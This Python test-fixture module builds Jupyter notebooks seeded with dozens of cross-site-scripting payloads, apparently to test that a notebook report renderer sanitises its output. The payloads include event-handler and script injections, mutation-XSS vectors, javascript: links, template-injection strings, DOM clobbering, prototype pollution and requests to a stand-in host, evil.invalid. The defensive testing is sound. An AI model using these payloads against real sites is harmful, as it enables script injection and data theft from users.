"""Strings that try to run, to fetch, to leave the page or to stand for a part of it. `RUN` is what one of them sets."""

from __future__ import annotations

import base64
import json
from collections.abc import Sequence
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_output
from report_pages import b64, code, markdown, picture, shown, stream

OWNED = "globalThis.owned=1"
AWAY = "https://evil.invalid"
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{OWNED}'><script>{OWNED}</script></svg>"
_PAGE = base64.b64encode(f"<script>parent.{OWNED}</script>".encode()).decode()

PAYLOADS: dict[str, str] = {
    # Elements that run
    "image error": f"<img src=x onerror={OWNED}>",
    "script": f"<script>{OWNED}</script>",
    "script from elsewhere": f"<script src={AWAY}/s.js></script>",
    "end of script": f"</script><script>{OWNED}</script>",
    "end of style": f"</style><script>{OWNED}</script>",
    "end of title": f"</title></textarea></noscript><script>{OWNED}</script>",
    "comment opens script": f"<!--<script>{OWNED}",
    "comment closes": f"--><script>{OWNED}</script>",
    "out of an attribute": f"\"'><svg onload={OWNED}>",
    "cdata": f"]]><script>{OWNED}</script>",
    "svg animation": f"<svg><animate onbegin={OWNED} attributeName=x dur=1s>",
    "svg use": f"<svg><use href='data:image/svg+xml;base64,{b64(_SVG.encode())}#x'></svg>",
    "svg foreign object": f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload={OWNED}>",
    "svg picture": f"<img src='data:image/svg+xml;base64,{b64(_SVG.encode())}'>",
    "details": f"<details open ontoggle={OWNED}>x</details>",
    "focus": f"<input autofocus onfocus={OWNED}>",
    "media": f"<video autoplay><source src=x onerror={OWNED}></video>",
    "body": f"<body onload={OWNED}><frameset onload={OWNED}>",
    "marquee": f"<marquee onstart={OWNED}>x</marquee>",
    "mutation through math": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x onerror={OWNED}&gt;'>",
    "mutation through noscript": f"<noscript><p title='</noscript><img src=x onerror={OWNED}>'>",
    "mutation through template": f"<template><s><template><s><img src=x onerror={OWNED}>@shadow</s></template>",
    "broken tag": f"<img/src=x/onerror={OWNED}//<b",
    "split tag": f"<scr<script>ipt>{OWNED}</scr</script>ipt>",
    "escaped twice": f"&lt;img src=x onerror={OWNED}&gt;&amp;lt;script&amp;gt;",
    "unicode angle": f"＜script＞{OWNED}＜/script＞ \u2028<script>{OWNED}</script>",
    # Addresses
    "script link": f"<a href='javascript:{OWNED}'>go</a>",
    "script link in disguise": f"<a href=' &#14;java&#9;script:{OWNED}'>go</a>",
    "data link": f"<a href='data:text/html;base64,{_PAGE}'>go</a>",
    "markdown script link": f"[go](javascript:{OWNED}) [go](JaVaScRiPt&colon;{OWNED}) <javascript:{OWNED}>",
    "markdown reference link": f"[go][1]\n\n[1]: javascript:{OWNED} \"x\"",
    "markdown picture": f"![a]({AWAY}/m.png \"x\") ![b](javascript:{OWNED}) ![c](//evil.invalid/p.png)",
    "frame": f"<iframe src='javascript:parent.{OWNED}'></iframe>",
    "frame of its own page": f"<iframe srcdoc='<script>parent.{OWNED}</script>'>",
    "object": f"<object data='data:text/html;base64,{_PAGE}'></object><embed src='{AWAY}/e.swf'>",
    "formula": rf"$\href{{javascript:{OWNED}}}{{x}}$ $$\style{{background:url({AWAY}/f)}}{{x}}$$ "
    f"$</math><img src=x onerror={OWNED}>$",
    "template words": "${globalThis.owned=1} {{constructor.constructor('globalThis.owned=1')()}} #{7*7} <%= 7*7 %>",
    # Requests
    "picture from elsewhere": f"<img src={AWAY}/a.png srcset='{AWAY}/b.png 2x'><picture><source srcset={AWAY}/c.png>",
    "sheet from elsewhere": f"<link rel=stylesheet href={AWAY}/s.css><link rel=prefetch href={AWAY}/p>",
    "style": f"<style>@import url({AWAY}/i.css);*{{background:url({AWAY}/u)}}@font-face{{src:url({AWAY}/f)}}</style>",
    "style attribute": f"<div style='background:url({AWAY}/d);position:fixed;inset:0'>over</div>",
    "escaped style": f"<div style='background:\\75rl({AWAY}/e);width:expression({OWNED})'>x</div>",
    "away": f"<meta http-equiv=refresh content='0;url={AWAY}'><base href='{AWAY}/' target=_blank>",
    "form": f"<form action='{AWAY}/post'><button autofocus formaction='javascript:{OWNED}'>go</button></form>",
    "sound": f"<audio src={AWAY}/a.mp3 autoplay></audio><bgsound src={AWAY}/b><track src={AWAY}/t>",
    # Parts of our own page
    "a view of its own": "<div class='nbsae-view' data-model='stale'></div><div data-nbsae='x'><img src='x'></div>",
    "a state of its own": '<script type="application/json" id="nbsae-state">{"version":1,"models":{}}</script>',
    "a module of its own": f"<script data-nbsae-module='m' type='application/octet-stream'>{OWNED}</script>",
    "a figure of its own": "<div class='nbsae-plotly' data-figure='nbsae-state'></div>",
    "names of the page": "<a id=nbsaeReport></a><form name=documentElement><input name=dataset></form><img name=body>",
    # Text that is no text
    "bidirectional": "abc\u202egnp.exe\u2066\u2069 \u200f",
    "control characters": "null\0bell\a\x1b[31mred\x1b]0;title\x07",
    "lone surrogate": "lone \ud83d surrogate",
    "prototype": '{"__proto__": {"polluted": 1}}',
    "very long": "x" * 20_000,
}  # fmt: skip


def cells(payload: str) -> list[NotebookNode]:
    """The payload in every place that a notebook has for text."""
    failed = code("fails")
    failed.outputs = [new_output("error", ename=payload, evalue=payload, traceback=[payload, f"\x1b[31m{payload}"])]
    attached = markdown(
        f"![x](attachment:{payload})\n\n## {payload}\n\n| {payload} | b |\n|---|---|\n| 1 | {payload} |"
    )
    attached["attachments"] = {payload: {"image/png": payload}, "b": {"image/svg+xml": payload}}
    return [
        markdown(
            f"{payload}\n\n- {payload}\n\n> {payload}\n\n`{payload}`\n\n```html\n{payload}\n```\n\n[^1]: {payload}"
        ),
        attached,
        code(f"# {payload}\nx = {payload!r}", stream(payload), stream(payload, "stderr")),
        failed,
        code("html", shown(html=payload), shown(html=f"<table><tr><td>{payload}</td></tr></table>", plain=payload)),
        code("plain", shown(plain=payload), new_output("display_data", data={"text/markdown": payload})),
        code("latex", new_output("display_data", data={"text/latex": f"${payload}$"})),
        code("svg", shown(svg=f"<svg xmlns='http://www.w3.org/2000/svg'>{payload}</svg>"), shown(svg=payload)),
        code(
            "json", new_output("display_data", data={"application/json": {payload: [payload], "__proto__": {"a": 1}}})
        ),
        code("script", new_output("display_data", data={"application/javascript": payload})),
        code("picture", shown(png=b64(picture()), plain=payload), shown(png=payload)),
        code(
            "widgets",
            shown(view={"model_id": payload}, plain=payload),
            shown(view={"model_id": "html-widget"}, plain=payload),
            shown(html=f"<div data-nbsae='{payload}'><img alt='{payload}' src='{payload}'></div>"),
        ),
    ]


def figure_of(payloads: Sequence[str]) -> NotebookNode:
    """A cell whose figure has the payloads in every place that plotly has for text."""
    said = list(payloads)
    trace = {"type": "bar", "x": said, "y": [1] * len(said), "text": said, "hovertext": said, "customdata": said}
    layout = {
        "title": {"text": " ".join(said)},
        "xaxis": {"title": {"text": said[0]}, "ticktext": said, "tickvals": list(range(len(said)))},
        "annotations": [{"text": one, "x": place, "y": 1} for place, one in enumerate(said)],
        "images": [{"source": said[-1]}, {"source": f"{AWAY}/figure.png"}],
        "__proto__": {"polluted": 1},
    }
    named = {**trace, "name": said[0], "hovertemplate": said[-1], "legendgroup": said[0]}
    return code("figure", shown(plotly={"data": [named], "layout": layout}))


def tampered(value: Any, payload: str) -> Any:
    """The same JSON value with the payload at the end of every string in it."""
    if isinstance(value, str):
        return value + payload
    if isinstance(value, dict):
        return {key: tampered(entry, payload) for key, entry in value.items()}
    return [tampered(entry, payload) for entry in value] if isinstance(value, list) else value


def as_file(made: NotebookNode) -> str:
    """The notebook as text of a file, valid or not."""
    return json.dumps(made, ensure_ascii=True)
